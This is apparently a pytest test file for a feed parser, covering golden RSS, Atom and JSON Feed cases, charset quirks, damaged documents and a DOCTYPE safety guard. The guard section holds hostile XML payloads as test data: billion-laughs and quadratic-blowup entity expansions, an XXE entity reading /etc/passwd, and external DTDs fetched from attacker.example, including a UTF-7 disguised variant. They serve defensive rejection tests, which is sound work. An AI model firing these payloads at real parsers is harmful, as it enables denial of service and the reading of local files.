"""Tests for feedwatch.parse: golden documents end to end, and the parser's guards.

Golden cases live in tests/data/parse/: ``<case>.xml`` or ``<case>.json``, an
optional ``<case>.headers.json`` (``url`` plus response headers) and
``<case>.expected.json``, the normalised items written out by hand.
"""

from __future__ import annotations

import codecs
import json
import pickle
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import feedparser
import pytest

from feedwatch import parse as parse_module
from feedwatch._model import ParsedFeed
from feedwatch.exceptions import ParseError
from feedwatch.normalise import normalise_entries
from feedwatch.parse import parse_document

DATA = Path(__file__).parent / "data" / "parse"
CORPUS = Path(__file__).resolve().parent.parent.parent / "shared" / "corpus" / "real"
NOW = datetime(2024, 6, 1, 12, 0, tzinfo=UTC)
URL = "https://www.example.org/feeds/news.xml"
RSS_HEADERS = {"Content-Type": "application/rss+xml"}

# --------------------------------------------------------------------------- golden files


def _golden_cases() -> list[str]:
    return sorted(p.name.removesuffix(".expected.json") for p in DATA.glob("*.expected.json"))


def _load_case(case: str) -> tuple[bytes, str, dict[str, str], list[dict[str, Any]]]:
    document = next(p for p in (DATA / f"{case}.xml", DATA / f"{case}.json") if p.exists())
    headers: dict[str, str] = {}
    headers_file = DATA / f"{case}.headers.json"
    if headers_file.exists():
        headers = json.loads(headers_file.read_text(encoding="utf-8"))
    url = headers.pop("url", URL)
    expected = json.loads((DATA / f"{case}.expected.json").read_text(encoding="utf-8"))
    return document.read_bytes(), url, headers, expected


def _iso(value: datetime | None) -> str | None:
    return value.isoformat() if value is not None else None


@pytest.mark.parametrize("case", _golden_cases())
def test_golden(case: str) -> None:
    """Each document parses and normalises to the items written by hand next to it."""
    content, url, headers, expected = _load_case(case)

    parsed = parse_document(content, url=url, headers=headers)
    items, _ = normalise_entries(parsed, feed_url=url, now=NOW)

    assert [e["entry_key"] for e in expected] == [i.entry_key for i in items]
    for want, item in zip(expected, items, strict=True):
        got: dict[str, Any] = {
            "entry_key": item.entry_key,
            "guid": item.guid,
            "url": item.url,
            "canonical_url": item.canonical_url,
            "title": item.title,
            "content_text": item.content_text,
            "author": item.author,
            "published": _iso(item.published),
            "updated": _iso(item.updated),
            "sort_at": _iso(item.sort_at),
            "tags": list(item.tags),
            "language": item.language,
        }
        for key, value in want.items():
            if key == "content_text_prefix":
                assert item.content_text.startswith(value), item.entry_key
            elif key == "content_html_contains":
                for fragment in value:
                    assert fragment in item.content_html, item.entry_key
            else:
                assert value == got[key], f"{item.entry_key}: {key}"
        assert item.first_seen == NOW
        assert item.sort_at <= NOW


def test_golden_cases_are_all_there() -> None:
    """The golden set covers the formats and quirks it is meant to (guards against a lost file)."""
    assert {
        "rss20_basic",
        "rss10_rdf",
        "atom10_xml_base",
        "jsonfeed11",
        "cp1251_declared",
        "cp1251_mislabelled",
        "utf8_labelled_cp1251",
        "missing_guids",
        "html_titles",
        "dates",
        "multilingual",
    } <= set(_golden_cases())


@pytest.mark.parametrize(
    ("case", "fmt", "title", "ttl"),
    [
        ("rss20_basic", "rss20", "UN News: Climate", 30),
        ("rss10_rdf", "rss10", "Parliament press releases", None),
        ("atom10_xml_base", "atom10", "OHCHR news", None),
        ("jsonfeed11", "json11", "Ministry of Foreign Affairs", None),
        ("cp1251_declared", "rss20", "МИД России: новости", None),
    ],
)
def test_feed_level_fields(case: str, fmt: str, title: str, ttl: int | None) -> None:
    content, url, headers, _ = _load_case(case)

    parsed = parse_document(content, url=url, headers=headers)

    assert fmt == parsed.format
    assert title == parsed.title
    assert ttl == parsed.ttl_minutes


def test_charset_problems_are_warnings() -> None:
    content, url, headers, _ = _load_case("cp1251_mislabelled")
    mislabelled = parse_document(content, url=url, headers=headers)
    content, url, headers, _ = _load_case("utf8_labelled_cp1251")
    utf8 = parse_document(content, url=url, headers=headers)

    assert any("CharacterEncodingOverride" in w for w in mislabelled.warnings)
    assert any("body is UTF-8" in w for w in utf8.warnings)


# --------------------------------------------------------------------------- DOCTYPE guard


@pytest.fixture
def feedparser_forbidden(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the test if feedparser is handed the document."""

    def fail(*args: object, **kwargs: object) -> None:
        pytest.fail("a parser was called on a document that must be rejected")

    monkeypatch.setattr(feedparser, "parse", fail)
    monkeypatch.setattr(parse_module, "_parse_xml_fast", fail)


def _billion_laughs() -> bytes:
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE rss [", '  <!ENTITY lol0 "lol">']
    lines += [f'  <!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    lines += ["]>", "<rss><channel><title>&lol9;</title></channel></rss>"]
    return "\n".join(lines).encode()


def _quadratic_blowup() -> bytes:
    # One large entity referenced many times: no nesting for a parser to notice.
    value = "x" * 60_000
    refs = "&a;" * 1_000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "{value}">]>\n'
        f"<rss><channel><title>t</title><item><title>i</title>"
        f"<description>{refs}</description></item></channel></rss>"
    ).encode()


ITEM = "<channel><title>t</title><item><title>i</title></item></channel>"

UNSAFE_DOCUMENTS: dict[str, bytes] = {
    "billion laughs": _billion_laughs(),
    "quadratic blowup": _quadratic_blowup(),
    "external SYSTEM entity": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<rss><channel><title>&xxe;</title></channel></rss>"
    ),
    "parameter entity": (
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
        f"<rss>{ITEM}</rss>"
    ).encode(),
    "parameter entity reference alone": f"<!DOCTYPE rss [ %remote; ]><rss>{ITEM}</rss>".encode(),
    "external DTD": (
        f'<!DOCTYPE rss SYSTEM "http://attacker.example/rss.dtd"><rss>{ITEM}</rss>'
    ).encode(),
    "external DTD, unknown public id": (
        '<!DOCTYPE rss PUBLIC "-//Attacker//DTD RSS//EN" "http://attacker.example/rss.dtd">'
        f"<rss>{ITEM}</rss>"
    ).encode(),
    "lower case": f'<!doctype rss [<!entity a "b">]><rss>{ITEM}</rss>'.encode(),
    "markup inside an entity value": (
        # feedparser's own head split stops at the first "<b": the rest of the
        # subset would reach expat untouched.
        '<!DOCTYPE rss [<!ENTITY a "<b>x</b>"><!ENTITY big "' + "y" * 1000 + '">]>'
        f"<rss>{ITEM}</rss>"
    ).encode(),
    "after a comment and a processing instruction": (
        '<?xml version="1.0"?><!-- <x> --><?pi ok?>'
        f'<!DOCTYPE rss [<!ENTITY a "b">]><rss>{ITEM}</rss>'
    ).encode(),
    "UTF-16 with BOM": codecs.BOM_UTF16_LE + _billion_laughs().decode().encode("utf-16-le"),
    "UTF-16 without BOM": _billion_laughs().decode().encode("utf-16-be"),
    "UTF-8 BOM": codecs.BOM_UTF8 + _billion_laughs(),
}


@pytest.mark.usefixtures("feedparser_forbidden")
@pytest.mark.parametrize("content", UNSAFE_DOCUMENTS.values(), ids=UNSAFE_DOCUMENTS.keys())
def test_entity_declaring_doctype_is_rejected_before_parsing(content: bytes) -> None:
    with pytest.raises(ParseError, match="unsafe document"):
        parse_document(content, url=URL, headers=RSS_HEADERS)


@pytest.mark.usefixtures("feedparser_forbidden")
def test_entities_hidden_by_a_header_charset_are_rejected() -> None:
    """UTF-7 spells "<" as "+ADw-": the scan must read the bytes as the parser will."""
    content = b"+ADw-!DOCTYPE rss +AFs-+ADw-!ENTITY a +ACI-b+ACI-+AD4-+AF0-+AD4-<rss></rss>"

    with pytest.raises(ParseError, match="unsafe document"):
        parse_document(content, url=URL, headers={"Content-Type": "application/xml; charset=utf-7"})


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE rss>",
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
    ],
)
def test_harmless_doctypes_are_allowed(doctype: str) -> None:
    content = (
        f'<?xml version="1.0"?>\n{doctype}\n<rss version="0.91"><channel><title>T</title>'
        "<item><title>One</title><link>https://www.example.org/1</link></item>"
        "</channel></rss>"
    ).encode()

    parsed = parse_document(content, url=URL, headers=RSS_HEADERS)

    assert [e.title for e in parsed.entries] == ["One"]


# --------------------------------------------------------------------------- not a feed


@pytest.mark.parametrize(
    ("content", "headers"),
    [
        (b"<!DOCTYPE html><html><head><title>Hi</title></head><body>x</body></html>", {}),
        (
            b"<!DOCTYPE html>\n<html lang='en'><body><p>Page</p></body></html>",
            {"Content-Type": "text/html; charset=utf-8"},
        ),
        (b"\n\n<HTML><BODY>old school</BODY></HTML>", RSS_HEADERS),
        (
            b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN"'
            b' "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
            b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
            {"Content-Type": "application/xhtml+xml"},
        ),
    ],
    ids=["no content type", "text/html", "labelled as RSS", "XHTML"],
)
def test_html_page_is_not_a_feed(content: bytes, headers: dict[str, str]) -> None:
    with pytest.raises(ParseError, match="HTML page"):
        parse_document(content, url=URL, headers=headers)


@pytest.mark.parametrize("content", [b"", b"  \r\n\t ", codecs.BOM_UTF8, b"\x00\x00"])
def test_empty_body_is_not_a_feed(content: bytes) -> None:
    with pytest.raises(ParseError, match="empty document"):
        parse_document(content, url=URL, headers=RSS_HEADERS)


@pytest.mark.parametrize(
    ("content", "headers", "message"),
    [
        (b"just some text", {"Content-Type": "text/plain"}, "not a feed"),
        (b"<note><to>x</to></note>", {"Content-Type": "application/xml"}, "not a feed"),
        (b'{"title": "x"}', {"Content-Type": "application/json"}, "JSON Feed version"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": 3}', {}, "items"),
        (b'{"version": ', {"Content-Type": "application/feed+json"}, "invalid JSON"),
        (b"[1, 2]", {"Content-Type": "application/json"}, "not an object"),
        (b"{" * 100_000, {}, "invalid JSON"),
    ],
)
def test_other_documents_are_not_feeds(
    content: bytes, headers: dict[str, str], message: str
) -> None:
    with pytest.raises(ParseError, match=message):
        parse_document(content, url=URL, headers=headers)


def test_bytes_are_never_taken_for_a_path(tmp_path: Path) -> None:
    """feedparser opens a str/bytes argument as a file if it can; we hand it a stream."""
    feed = tmp_path / "feed.xml"
    feed.write_text(f"<rss>{ITEM}</rss>")

    with pytest.raises(ParseError):
        parse_document(str(feed).encode(), url=URL, headers=RSS_HEADERS)


# --------------------------------------------------------------------------- damaged documents

TRUNCATION_SOURCE = (
    '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>T</title>'
    "<item><title>One</title><link>https://www.example.org/1</link>"
    "<description>First, complete.</description></item>"
    "<item><title>Two</title><link>https://www.example.org/2</link>"
    "<description>Second, complete.</description></item>"
    "<item><title>Three</title><link>https://www.example.org/3</link>"
    "<description>Third, cut off in the middle of this sentence</description></item>"
    "</channel></rss>"
)


def test_truncated_document_drops_the_half_made_last_entry() -> None:
    content = TRUNCATION_SOURCE[: TRUNCATION_SOURCE.index("in the middle")].encode()

    parsed = parse_document(content, url=URL, headers=RSS_HEADERS)

    assert [e.title for e in parsed.entries] == ["One", "Two"]
    assert any("last entry dropped" in w for w in parsed.warnings)


def test_truncated_after_the_last_entry_keeps_every_entry() -> None:
    content = TRUNCATION_SOURCE[: TRUNCATION_SOURCE.index("</channel>")].encode()

    parsed = parse_document(content, url=URL, headers=RSS_HEADERS)

    assert [e.title for e in parsed.entries] == ["One", "Two", "Three"]
    assert any("not well-formed" in w for w in parsed.warnings)


def test_malformed_document_with_entries_is_kept_with_a_warning() -> None:
    # &nbsp; is not an XML entity: the strict parser fails, the loose one reads it.
    content = TRUNCATION_SOURCE.replace("First, complete.", "First&nbsp;one.").encode()

    parsed = parse_document(content, url=URL, headers=RSS_HEADERS)

    assert len(parsed.entries) == 3
    assert parsed.warnings


def test_entry_without_id_link_or_title_is_skipped() -> None:
    content = (
        b"<rss><channel><title>T</title><item><description>orphan</description></item>"
        b"<item><title>Kept</title></item></channel></rss>"
    )

    parsed = parse_document(content, url=URL, headers=RSS_HEADERS)

    assert [e.title for e in parsed.entries] == ["Kept"]
    assert any("no id, link or title" in w for w in parsed.warnings)


def _fake_feedparser(entries: list[dict[str, Any]]) -> Callable[..., dict[str, Any]]:
    def parse(*args: object, **kwargs: object) -> dict[str, Any]:
        return {"bozo": False, "version": "rss20", "feed": {"title": "T"}, "entries": entries}

    return parse


def test_bad_entry_is_skipped_with_a_warning(monkeypatch: pytest.MonkeyPatch) -> None:
    entries = [
        {"id": "1", "title": "good"},
        {"id": "2", "title": "bad", "tags": 5},
        {"id": "3", "title": "also good"},
    ]
    monkeypatch.setattr(feedparser, "parse", _fake_feedparser(entries))
    monkeypatch.setattr(parse_module, "_parse_xml_fast", lambda *a, **k: None)  # feedparser's turn

    parsed = parse_document(f"<rss>{ITEM}</rss>".encode(), url=URL, headers=RSS_HEADERS)

    assert [e.title for e in parsed.entries] == ["good", "also good"]
    assert any(w.startswith("entry 1 skipped: TypeError") for w in parsed.warnings)


def test_entries_that_are_not_dicts_are_skipped(monkeypatch: pytest.MonkeyPatch) -> None:
    entries: list[Any] = [{"id": "1", "title": "good"}, "junk", None, ["id", "x"]]
    monkeypatch.setattr(feedparser, "parse", _fake_feedparser(entries))
    monkeypatch.setattr(parse_module, "_parse_xml_fast", lambda *a, **k: None)  # feedparser's turn

    parsed = parse_document(f"<rss>{ITEM}</rss>".encode(), url=URL, headers=RSS_HEADERS)

    assert [e.title for e in parsed.entries] == ["good"]
    assert sum("no id, link or title" in w for w in parsed.warnings) == 3


@pytest.mark.parametrize(
    ("parsed", "text", "expected"),
    [
        (
            (2024, 6, 3, 7, 0, 0, 0, 155, 0),
            "Mon, 03 Jun 2024 10:00:00 +0300",
            "2024-06-03T07:00:00",
        ),
        ((2024, 6, 3, 7, 0, 0, 0, 155, 0), "Mon, 03 Jun 2024 10:00:00 MSK", "2024-06-03T07:00:00"),
        # The year shifts by one across New Year's Eve: still the text's year.
        ((2024, 1, 1, 2, 0, 0, 0, 1, 0), "2023-12-31T23:00:00-03:00", "2024-01-01T02:00:00"),
        ((2010, 1, 1, 0, 0, 0, 4, 1, 0), "10000-01-01", None),
        ((2006, 1, 2, 0, 0, 0, 0, 2, 0), "02 Jan 06", "2006-01-02T00:00:00"),
        ((2024, 6, 30, 23, 59, 60, 6, 182, 0), "2024-06-30T23:59:60Z", "2024-06-30T23:59:59"),
        ((2024, 6, 3, 7, 0, 0), None, "2024-06-03T07:00:00"),
        ([2024, 6, 3, 7, 0, 0], None, None),
        ((2024, 6), "2024-06", None),
        ("2024-06-03", "2024-06-03", None),
        (None, None, None),
    ],
)
def test_dates(parsed: Any, text: str | None, expected: str | None) -> None:
    value = parse_module._date(parsed, text)

    assert (value.replace(tzinfo=None).isoformat() if value else None) == expected


def test_bad_json_feed_items_are_skipped() -> None:
    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "T",
        "items": [
            {"id": "1", "title": "good"},
            "not an object",
            {"id": "3", "title": ["not", "a", "string"]},
            {"id": "4", "title": "tags not a list", "tags": "x"},
            {"content_text": "no id, url or title"},
            {"id": "6", "title": "good too"},
        ],
    }

    parsed = parse_document(json.dumps(document).encode(), url=URL, headers={})

    assert [e.title for e in parsed.entries] == ["good", "good too"]
    assert len(parsed.warnings) == 4


def test_library_errors_become_parse_errors(monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(feedparser, "parse", explode)
    monkeypatch.setattr(parse_module, "_parse_xml_fast", lambda *a, **k: None)  # feedparser's turn

    with pytest.raises(ParseError, match="RuntimeError: boom") as info:
        parse_document(f"<rss>{ITEM}</rss>".encode(), url=URL, headers=RSS_HEADERS)
    assert info.value.url == URL


# --------------------------------------------------------------------------- details


def test_missing_content_type_reads_utf8_as_xml_does() -> None:
    """No Content-Type: feedparser alone would assume ISO-8859-1; XML says UTF-8."""
    content = "<rss><channel><title>Новости</title><item><title>Élan</title></item></channel></rss>"

    parsed = parse_document(content.encode(), url=URL, headers={})

    assert parsed.title == "Новости"
    assert [e.title for e in parsed.entries] == ["Élan"]
    assert parsed.warnings == ()


def test_plain_text_content_and_summary_are_not_taken_for_html() -> None:
    content = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title>
    <entry><id>urn:x:1</id><title>a</title><summary type="text">x &lt;b&gt; y</summary></entry>
    <entry><id>urn:x:2</id><title>b</title><content type="text">1 &lt; 2</content></entry>
    </feed>"""

    parsed = parse_document(content, url=URL, headers={"Content-Type": "application/atom+xml"})

    first, second = parsed.entries
    assert first.summary == "x &lt;b&gt; y"
    assert second.content_text == "1 < 2"
    assert second.content is None


def test_json_feed_1_0_author_and_summary() -> None:
    document = {
        "version": "https://jsonfeed.org/version/1",
        "title": "T",
        "author": {"name": "Old Style"},
        "items": [{"id": "1", "summary": "a < b", "date_published": "2024-05-01T10:00:00"}],
    }

    parsed = parse_document(json.dumps(document).encode(), url=URL, headers={})

    assert parsed.format == "json10"
    (entry,) = parsed.entries
    assert entry.author == "Old Style"
    assert entry.summary == "a &lt; b"
    assert datetime(2024, 5, 1, 10, 0, tzinfo=UTC) == entry.published


def test_json_feed_with_bom_and_utf16() -> None:
    document = json.dumps(
        {"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "1", "title": "Я"}]},
        ensure_ascii=False,
    )

    for content in (codecs.BOM_UTF8 + document.encode(), document.encode("utf-16")):
        parsed = parse_document(content, url=URL, headers={})
        assert [e.title for e in parsed.entries] == ["Я"]


def test_invalid_ttl_is_ignored_with_a_warning() -> None:
    content = b"<rss><channel><title>T</title><ttl>soon</ttl></channel></rss>"

    parsed = parse_document(content, url=URL, headers=RSS_HEADERS)

    assert parsed.ttl_minutes is None
    assert any("ttl" in w for w in parsed.warnings)


def test_results_cross_a_process_boundary() -> None:
    """parse_document runs in a process pool: what it returns or raises must pickle."""
    content, url, headers, _ = _load_case("rss20_basic")
    parsed = parse_document(content, url=url, headers=headers)
    error = ParseError("not a feed", url=url)

    assert parsed == pickle.loads(pickle.dumps(parsed))
    assert str(error) == str(pickle.loads(pickle.dumps(error)))
    assert isinstance(pickle.loads(pickle.dumps(parse_document)), type(parse_document))


# --------------------------------------------------------------------------- real documents


def _corpus() -> list[Path]:
    if not CORPUS.is_dir():
        return []
    # The smaller documents keep the run to a few seconds; together they still
    # cover every source project and format in the corpus.
    return sorted(p for p in CORPUS.iterdir() if p.is_file() and p.stat().st_size <= 30_000)


@pytest.mark.skipif(not CORPUS.is_dir(), reason="shared corpus not present")
def test_real_documents_parse_or_fail_cleanly() -> None:
    """Every real document gives items or a ParseError, never another exception."""
    parsed_count = 0
    for path in _corpus():
        try:
            parsed = parse_document(
                path.read_bytes(), url=f"https://corpus.example/{path.name}", headers={}
            )
        except ParseError:
            continue
        items, _ = normalise_entries(parsed, feed_url="https://corpus.example/", now=NOW)
        assert isinstance(parsed, ParsedFeed)
        assert len(items) <= len(parsed.entries)
        for item in items:
            assert "\x00" not in item.title + item.content_text + item.content_html
            assert item.url is None or item.url.startswith(("http://", "https://"))
        parsed_count += 1
    assert parsed_count > 0


@pytest.mark.parametrize("charset", ["base64", "hex", "no-such-charset", "utf-16"])
def test_odd_header_charsets_do_not_break_parsing(charset: str) -> None:
    content = f"<rss>{ITEM}</rss>".encode()

    parsed = parse_document(
        content, url=URL, headers={"Content-Type": f"application/rss+xml; charset={charset}"}
    )

    assert [e.title for e in parsed.entries] == ["i"]


def test_declared_utf16_over_utf8_bytes_is_read_as_utf8() -> None:
    content = f'<?xml version="1.0" encoding="utf-16"?><rss>{ITEM}</rss>'.encode()

    parsed = parse_document(content, url=URL, headers={})

    assert [e.title for e in parsed.entries] == ["i"]
